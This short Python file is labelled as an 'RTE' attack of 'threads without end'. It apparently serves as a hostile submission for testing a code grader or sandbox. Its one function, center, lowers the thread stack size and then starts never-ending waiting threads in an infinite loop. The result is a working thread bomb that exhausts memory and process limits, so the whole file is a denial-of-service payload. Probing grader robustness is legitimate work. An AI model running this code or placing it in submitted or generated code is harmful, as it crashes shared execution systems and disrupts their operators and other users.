# RTE
# attacks: threads without end
import threading


def center(x):
    threading.stack_size(2**16)
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
